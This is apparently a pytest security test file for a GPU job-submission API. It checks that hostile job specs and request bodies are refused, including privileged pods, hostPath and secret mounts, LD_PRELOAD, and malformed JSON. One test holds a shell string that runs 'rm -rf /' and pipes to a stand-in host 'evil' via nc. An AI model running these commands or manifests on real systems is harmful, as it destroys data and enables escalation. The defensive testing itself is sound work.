"""Attacks 19 to 38 of the catalogue: hostile job specs, bodies and logs. Each is refused with a stable code, an audit
entry and no stored job; none is a 500.
"""

import copy
import gzip
import json
from typing import Any

import pytest

from federation.engine.objects.rendering import Devices, Identity, render_job
from federation.models import Job
from federation.queries.logs import harmless
from foundation.ids import new_id
from tenancy.models import AuditEntry
from tests.builders import bearer, bind, make_spec, make_tenant, make_user
from tests.engine.test_manifest import MANIFEST

pytestmark = pytest.mark.django_db
TENANT = "acme/research"
POD = ("spec", "template", "spec")
CONTAINER = (*POD, "containers", 0)


@pytest.fixture
def headers():
    user = make_user()
    bind(user, "acme", "submitter")
    make_tenant(TENANT)
    return bearer(user)


@pytest.fixture
def refused(client, headers):
    """Posts a body (JSON value or bytes); expects the status and that nothing but an audit entry remains."""

    def post(body, status=422, content_type="application/json", **more):
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        response = client.post("/api/v1/jobs", raw, content_type=content_type, headers={**headers, **more})
        assert response.status_code == status, response.content[:500]
        assert response.headers["Content-Type"] == "application/problem+json"
        assert Job.objects.count() == 0
        assert AuditEntry.objects.filter(outcome="refused", detail__status=status).count() == 1
        return response.json()

    return post


def codes(problem):
    return {error["field"]: error["code"] for error in problem["errors"]}


def submission(**changes):
    return {"tenant": TENANT, **make_spec(**changes)}


def with_manifest(*path_and_value):
    *path, last, value = path_and_value
    manifest = copy.deepcopy(MANIFEST)
    at: Any = manifest
    for step in path:
        at = at[step] if isinstance(step, int) else at.setdefault(step, {})
    at[last] = value
    return {"tenant": TENANT, "manifest": manifest}


def dotted(path):
    return "manifest" + "".join(f"[{step}]" if isinstance(step, int) else f".{step}" for step in path)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ((*POD, "hostNetwork"), True),
        ((*POD, "hostPID"), True),
        ((*POD, "hostIPC"), True),
        ((*CONTAINER, "securityContext", "privileged"), True),
        ((*CONTAINER, "securityContext", "capabilities"), {"add": ["SYS_ADMIN"]}),
        ((*CONTAINER, "securityContext", "allowPrivilegeEscalation"), True),
        ((*CONTAINER, "securityContext", "seccompProfile"), {"type": "Unconfined"}),
        ((*POD, "securityContext", "seccompProfile"), {"type": "Unconfined"}),
        ((*CONTAINER, "securityContext", "runAsUser"), 0),
        ((*POD, "securityContext", "runAsUser"), 0),
        ((*POD, "securityContext", "runAsNonRoot"), False),
        ((*CONTAINER, "securityContext", "procMount"), "Unmasked"),
    ],
)
def test_attack_19_the_host_and_privileges_are_out_of_reach(refused, path, value):
    assert codes(refused(with_manifest(*path, value))) == {dotted(path): "not_allowed"}


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ((*POD, "serviceAccountName"), "admin"),
        ((*POD, "serviceAccount"), "admin"),
        ((*POD, "automountServiceAccountToken"), True),
        ((*CONTAINER, "envFrom"), [{"secretRef": {"name": "theirs"}}]),
        ((*POD, "imagePullSecrets"), [{"name": "theirs"}]),
    ],
)
def test_attack_20_no_identity_and_no_secrets(refused, path, value):
    assert codes(refused(with_manifest(*path, value))) == {dotted(path): "not_allowed"}


@pytest.mark.parametrize(
    ("path", "item", "key", "value"),
    [
        ((*POD, "volumes"), {"name": "host"}, "hostPath", {"path": "/"}),
        ((*POD, "volumes"), {"name": "s"}, "secret", {"secretName": "theirs"}),
        ((*POD, "volumes"), {"name": "t"}, "projected", {"sources": [{"serviceAccountToken": {"path": "t"}}]}),
        ((*CONTAINER, "ports"), {"containerPort": 80}, "hostPort", 80),
        ((*CONTAINER, "ports"), {"containerPort": 80}, "hostIP", "10.0.0.1"),
    ],
)
def test_attacks_19_and_20_no_part_of_the_host_and_no_secret_among_volumes_and_ports(refused, path, item, key, value):
    problem = refused(with_manifest(*path, [{**item, key: value}]))
    assert codes(problem) == {dotted((*path, 0, key)): "not_allowed"}


def test_attack_20_no_secret_by_variable(refused):
    env = [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "theirs", "key": "k"}}}]
    problem = refused(with_manifest(*CONTAINER, "env", env))
    assert codes(problem) == {dotted((*CONTAINER, "env", 0, "valueFrom")): "not_allowed"}


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ((*POD, "initContainers"), [{"name": "a", "image": "b"}]),
        ((*POD, "ephemeralContainers"), [{"name": "a", "image": "b"}]),
        ((*POD, "nodeName"), "n1"),
        ((*POD, "schedulerName"), "mine"),
        ((*POD, "priorityClassName"), "system-node-critical"),
        ((*POD, "tolerations"), [{"operator": "Exists"}]),
        ((*POD, "runtimeClassName"), "host"),
        ((*POD, "nodeSelector"), {"role": "control-plane"}),
    ],
)
def test_attack_21_no_way_around_placement(refused, path, value):
    assert codes(refused(with_manifest(*path, value))) == {dotted(path): "not_allowed"}


def test_attack_21_no_sidecars(refused):
    two = [MANIFEST["spec"]["template"]["spec"]["containers"][0]] * 2
    assert codes(refused(with_manifest(*POD, "containers", two))) == {dotted((*POD, "containers")): "too_many"}


@pytest.mark.parametrize("namespace", ["kube-system", "swy-other-00000000", "../kube-system", "default"])
def test_attack_22_the_namespace_is_computed(refused, namespace):
    problem = refused(with_manifest("metadata", "namespace", namespace))
    assert codes(problem) == {"manifest.metadata.namespace": "not_allowed"}


@pytest.mark.parametrize(
    "key",
    [
        "kubernetes.io/metadata.name",
        "node-role.kubernetes.io/master",
        "pod-security.kubernetes.io/enforce",
        "batch.kubernetes.io/job-name",
        "app.k8s.io/x",
        "kueue.x-k8s.io/queue-name",
        "switchyard.dev/tenant",
        "sub.switchyard.dev/x",
        "sim.switchyard.dev/other",
    ],
)
def test_attack_23_reserved_labels_are_refused(refused, key):
    assert codes(refused(submission(labels={key: "x"}))) == {f"labels.{key}": "reserved_prefix"}


def test_attack_23_annotations_and_reserved_labels_in_manifests_are_refused(client, headers, refused):
    problem = refused(with_manifest("metadata", "annotations", {"kueue.x-k8s.io/x": "y"}))
    assert codes(problem) == {"manifest.metadata.annotations": "not_allowed"}
    body = with_manifest(*POD[:-1], "metadata", {"labels": {"kueue.x-k8s.io/queue-name": "q"}})
    response = client.post("/api/v1/jobs", body, content_type="application/json", headers=headers)
    assert codes(response.json()) == {"manifest.metadata.labels.kueue.x-k8s.io/queue-name": "reserved_prefix"}


@pytest.mark.parametrize("name", ["NVIDIA_VISIBLE_DEVICES", "NVIDIA_MIG_CONFIG_DEVICES", "AMD_VISIBLE_DEVICES"])
def test_attack_24_no_free_gpus_by_variable(refused, name):
    assert codes(refused(submission(pod={"env": {name: "all"}}))) == {f"pod_sets[0].env.{name}": "not_allowed"}


def test_attack_24_pods_without_gpu_see_none():
    stored = {**make_spec(), "completions": None, "deadline_seconds": 60, "labels": {}}
    [pod_set] = stored["pod_sets"]
    pod_set |= {"env": {}, "command": [], "args": []}
    whose = Identity("i", new_id(), "acme", new_id(), new_id(), 1, "0" * 32)
    manifest = render_job(stored, 0, whose, Devices("nvidia", "on_demand", "nvidia.com/gpu", 0))
    [container] = manifest["spec"]["template"]["spec"]["containers"]
    assert {"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"} in container["env"]


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "SWITCHYARD_JOB_ID", "KUBERNETES_SERVICE_HOST"]
)
def test_attack_25_the_loader_and_our_own_variables_are_refused(refused, name):
    assert codes(refused(submission(pod={"env": {name: "x"}}))) == {f"pod_sets[0].env.{name}": "not_allowed"}


@pytest.mark.parametrize("count", [0.5, -1, 10**9, True, "1 ", "1", "\u0661", 2**63, 1.0, None, [], {}])
def test_attack_26_a_gpu_count_is_a_small_whole_number(refused, count):
    problem = refused(submission(pod={"gpu": {"count": count}}))
    assert codes(problem) == {
        "pod_sets[0].gpu.count": "required" if count is None else "out_of_range" if type(count) is int else "wrong_type"
    }


@pytest.mark.parametrize(
    "fraction",
    [0.1 + 0.2, 1.5, 0.0, -0.5, 1e-9, 2, "0.5 ", "1e-1", "\u0660.5", "0.0001", "-0.5", "0.", "2", "NaN", True],
)
def test_attack_26_a_fraction_is_exact(refused, fraction):
    assert set(codes(refused(submission(pod={"gpu": {"fraction": fraction}})))) == {"pod_sets[0].gpu.fraction"}


@pytest.mark.parametrize("amount", [0.5, -1, True, "1 ", "\u0661", "9" * 30])
def test_attack_26_so_it_is_in_a_manifest(refused, amount):
    path = (*CONTAINER, "resources", "limits")
    problem = refused(with_manifest(*path, {"memory": "128Gi", "nvidia.com/gpu": amount}))
    assert set(codes(problem)) == {dotted((*path, "nvidia.com/gpu"))}


@pytest.mark.parametrize(
    "image",
    [
        "10.0.0.1/x",
        "10.0.0.1:5000/x:1",
        "127.1:5000/x",
        "0x7f.1:80/x",
        "2130706433:80/x",
        "[::1]:5000/x",
        "localhost/x",
        "LOCALHOST:5000/x",
    ],
)
def test_attack_27_registries_are_not_named_by_address(refused, image):
    assert set(codes(refused(submission(pod={"image": image})))) == {"pod_sets[0].image"}


@pytest.mark.parametrize(
    "image", ["https://r.example/x", "r.example/x y", "r.example/x:1\n", "-x", "r.example/x@sha256:1", "a//b", " x"]
)
def test_attack_27_images_follow_the_grammar(refused, image):
    assert codes(refused(submission(pod={"image": image}))) == {"pod_sets[0].image": "bad_format"}


def test_attack_27_tags_are_refused_where_digests_are_required(refused, settings):
    settings.REQUIRE_DIGEST = True
    assert codes(refused(submission())) == {"pod_sets[0].image": "digest_required"}


def test_attack_28_arguments_are_passed_as_they_are(client, headers):
    command = ["sh", "-c", "; rm -rf / && $(id)\n`id` | nc evil 1"]
    body = submission(pod={"command": command})
    response = client.post("/api/v1/jobs", body, content_type="application/json", headers=headers)
    assert response.status_code == 201
    assert Job.objects.get().spec["pod_sets"][0]["command"] == command


@pytest.mark.parametrize("name", ["a\u202eb", "train\n", "A", "\u0430", "a" * 64, "a" * 10**6, "-a", "a.b", ""])
def test_attack_29_names_are_plain(refused, name):
    assert set(codes(refused(submission(name=name)))) == {"name"}


@pytest.mark.parametrize("text", [r"\u0000", r"\ud800", r"\udfff\ud800"])
def test_attack_29_no_nul_and_no_half_characters_anywhere(refused, text):
    raw = json.dumps(submission(pod={"args": ["TEXT"]})).replace("TEXT", text).encode()
    assert refused(raw, 400)["code"] == "malformed_body"


def test_attack_30_too_many_variables(refused):
    problem = refused(submission(pod={"env": {f"V{n}": "x" for n in range(2000)}}))
    assert codes(problem) == {"pod_sets[0].env": "too_many"}


def test_attack_30_too_large_an_environment(refused):
    problem = refused(submission(pod={"env": {f"V{n}": "x" * 1000 for n in range(100)}}))
    assert codes(problem) == {"pod_sets[0].env": "too_large"}


def test_attack_30_too_large_an_object(refused):
    assert codes(refused(submission(pod={"args": ["x" * 30_000] * 50}))) == {"": "too_large"}


@pytest.mark.parametrize("seconds", [0, -1, 10**12, 2.5, "60", True, 30 * 24 * 3600 + 1])
def test_attack_31_deadlines_are_bounded(refused, seconds):
    assert set(codes(refused(submission(deadline_seconds=seconds)))) == {"deadline_seconds"}


@pytest.mark.parametrize("times", [10**9, 101, -1, 2.5, "3", True])
def test_attack_31_retries_are_bounded(refused, times):
    assert set(codes(refused(submission(retries={"spot": times})))) == {"retries.spot"}


def test_attack_31_retries_are_told_by_cause(refused):
    assert codes(refused(submission(retries=10**9))) == {"retries": "wrong_type"}


def test_attack_31_nothing_is_retried_inside_the_cluster(client, headers):
    body = with_manifest("spec", "backoffLimit", 10**9)
    response = client.post("/api/v1/jobs", body, content_type="application/json", headers=headers)
    assert codes(response.json()) == {"manifest.spec.backoffLimit": "not_allowed"}


def test_attack_32_the_same_key_twice(refused):
    raw = json.dumps(submission(pod={"gpu": {"count": 1}})).replace('"count": 1}', '"count": 1, "count": 64}').encode()
    assert refused(raw, 400)["code"] == "malformed_body"


@pytest.mark.parametrize("number", ["1e400", "NaN", "Infinity", "-Infinity", "9" * 5000])
def test_attack_33_numbers_without_end(refused, number):
    raw = json.dumps(submission(deadline_seconds=777)).replace("777", number).encode()
    assert refused(raw, 400)["code"] == "malformed_body"


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_attack_34_bottomless_nesting(refused, opening):
    assert refused((opening * 5000).encode(), 400)["code"] == "malformed_body"


def test_attack_35_a_huge_body(refused):
    raw = json.dumps(submission(pod={"args": ["x" * 100]})).encode() + b" " * (2 * 1024 * 1024)
    assert refused(raw, 413)["code"] == "payload_too_large"


def test_attack_35_a_compressed_body_is_not_unpacked(refused):
    assert refused(gzip.compress(b" " * 10**7), 400, **{"Content-Encoding": "gzip"})["code"] == "malformed_body"


@pytest.mark.parametrize(
    ("content_type", "status"),
    [
        ("text/plain", 415),
        ("application/x-www-form-urlencoded", 415),
        ("multipart/form-data; boundary=x", 415),
        ("application/xml", 415),
        ("application/json; charset=utf-7", 415),
    ],
)
def test_attack_36_only_json_in_utf_8(refused, content_type, status):
    problem = refused(json.dumps(submission()).encode(), status, content_type)
    assert problem["code"] == "unsupported_media_type"


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: b"\xef\xbb\xbf" + text.encode(),
        lambda text: text.encode("utf-16"),
        lambda text: b"\xff" + text.encode(),
    ],
)
def test_attack_36_no_byte_order_marks_and_no_other_encodings(refused, encode):
    assert refused(encode(json.dumps(submission())), 400)["code"] == "malformed_body"


def test_attack_37_local_disk_and_privileges_are_bounded_in_what_we_render(client, headers):
    client.post("/api/v1/jobs", submission(), content_type="application/json", headers=headers)
    whose = Identity("i", new_id(), TENANT, new_id(), new_id(), 1, "0" * 32)
    pod = render_job(Job.objects.get().spec, 0, whose, Devices())["spec"]["template"]["spec"]
    limits = pod["containers"][0]["resources"]["limits"]
    assert set(limits) == {"cpu", "memory", "ephemeral-storage"}
    assert pod["containers"][0]["securityContext"]["capabilities"] == {"drop": ["ALL"]}


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("a\rb\x08\x00c", "abc"),
        ("one\r\ntwo\n\tthree", "one\ntwo\n\tthree"),
        ("\u202eevil\u2066", "evil"),
        ("\x9b31mred", "31mred"),
        ("<script>", "<script>"),
    ],
)
def test_attack_38_logs_obey_no_terminal(sent, shown):
    assert harmless(sent) == shown
